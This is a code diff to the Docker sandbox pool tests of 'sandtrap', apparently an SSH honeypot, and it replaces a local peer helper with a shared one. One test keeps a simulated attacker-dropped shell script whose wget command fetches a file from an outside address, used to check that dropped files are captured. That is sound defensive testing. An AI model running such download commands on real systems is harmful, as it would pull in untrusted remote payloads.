@@ -21,13 +21,14 @@ from typing import Any
 import pytest
 
 from sandtrap.config import Config, parse_config
-from sandtrap.events import Event, Peer
+from sandtrap.events import Event
 from sandtrap.sandbox.docker import Engine
 from sandtrap.sandbox.pool import Pool
 from tests.conftest import IMAGE
 from tests.docker.service import dockerd_pid, dockerd_restart, remove_sensor_containers
 from tests.pool_battery import (  # noqa: F401 - the battery's tests, collected here
     Backend,
+    peer,
     sh,
     test_a_burst_beyond_the_warm_pool_waits_and_every_login_is_served,
     test_concurrent_connections_of_one_source_share_one_sandbox,
@@ -116,13 +117,6 @@ async def running_pool(config: Config, sink: Sink) -> AsyncIterator[Pool]:
             await engine.close()
 
 
-def info(n: int = 1, ip: str | None = None) -> Peer:
-    """Session `n` from its own source address (connections of one address share a sandbox)."""
-    return Peer(
-        session_id=f"{n:012x}", src_ip=ip or f"203.0.113.{10 + n}", src_port=40000 + n, dst_port=22
-    )
-
-
 async def test_pool_warms_and_sandbox_is_hardened(sensor: str, tmp_path: Path) -> None:
     sink = Sink()
     config = make_config(sensor, tmp_path)
@@ -130,7 +124,7 @@ async def test_pool_warms_and_sandbox_is_hardened(sensor: str, tmp_path: Path) -
         async with asyncio.timeout(60):
             await pool.wait_warm()
         assert pool.statistics().idle == 2
-        sandbox = await pool.allocate(info())
+        sandbox = await pool.allocate(peer(1))
         details = json.loads(_docker("inspect", sandbox.id))[0]
         host = details["HostConfig"]
         assert details["State"]["Running"] is True
@@ -155,7 +149,7 @@ async def test_pool_warms_and_sandbox_is_hardened(sensor: str, tmp_path: Path) -
 async def test_inside_a_sandbox(sensor: str, tmp_path: Path) -> None:
     config = make_config(sensor, tmp_path, pool={"size": 1})
     async with running_pool(config, Sink()) as pool:
-        sandbox = await pool.allocate(info())
+        sandbox = await pool.allocate(peer(1))
         home = await sandbox.ensure_user("oracle")
         assert home == "/home/oracle"
         code, out = await sh(sandbox, "ls /sys/class/net; ip route; echo routes-done")
@@ -186,7 +180,7 @@ async def test_release_keeps_container_and_captures_files(sensor: str, tmp_path:
     sink = Sink()
     config = make_config(sensor, tmp_path, pool={"size": 1})
     async with running_pool(config, sink) as pool:
-        session = info(7)
+        session = peer(7)
         sandbox = await pool.allocate(session)
         await sandbox.ensure_user("root")
         payload = b"#!/bin/sh\n# dropped by the attacker\nwget http://203.0.113.1/x\n"
@@ -219,14 +213,14 @@ async def test_release_keeps_container_and_captures_files(sensor: str, tmp_path:
 async def test_sticky_mode_returns_the_same_sandbox(sensor: str, tmp_path: Path) -> None:
     config = make_config(sensor, tmp_path, pool={"size": 1, "sticky": True})
     async with running_pool(config, Sink()) as pool:
-        first = await pool.allocate(info(1, ip="198.51.100.4"))
+        first = await pool.allocate(peer(1, ip="198.51.100.4"))
         await sh(first, "echo left-behind > /root/note")
-        await pool.release(first, info(1, ip="198.51.100.4"))
-        again = await pool.allocate(info(2, ip="198.51.100.4"))
+        await pool.release(first, peer(1, ip="198.51.100.4"))
+        again = await pool.allocate(peer(2, ip="198.51.100.4"))
         assert again.id == first.id
         _, out = await sh(again, "cat /root/note")
         assert out.strip() == "left-behind"
-        other = await pool.allocate(info(3, ip="198.51.100.5"))
+        other = await pool.allocate(peer(3, ip="198.51.100.5"))
         assert other.id != first.id
 
 
@@ -239,7 +233,7 @@ async def test_disk_budget_stops_the_sandbox(sensor: str, tmp_path: Path) -> Non
         sandbox={"disk_limit_mb": 20, "disk_check_interval_seconds": 0.5, "io_bps_limit": 0},
     )
     async with running_pool(config, sink) as pool:
-        sandbox = await pool.allocate(info(9))
+        sandbox = await pool.allocate(peer(9))
         code, _ = await sh(sandbox, "head -c 40M /dev/zero > /root/fill; sync")
         assert code == 0
         async with asyncio.timeout(30):
@@ -251,7 +245,7 @@ async def test_disk_budget_stops_the_sandbox(sensor: str, tmp_path: Path) -> Non
         async with asyncio.timeout(30):
             while json.loads(_docker("inspect", sandbox.id))[0]["State"]["Running"]:
                 await asyncio.sleep(0.2)
-        await pool.release(sandbox, info(9))
+        await pool.release(sandbox, peer(9))
 
 
 @pytest.fixture
@@ -279,5 +273,5 @@ async def test_weighted_images_are_kept_in_proportion(
             "ps", "--format", "{{.Image}}", "--filter", f"label=sandtrap.sensor={sensor}"
         ).split()
         assert sorted(names) == sorted([IMAGE, IMAGE, IMAGE, alt_image])
-        drawn = {(await pool.allocate(info(n))).image for n in range(1, 5)}
+        drawn = {(await pool.allocate(peer(n))).image for n in range(1, 5)}
         assert drawn == {IMAGE, alt_image}
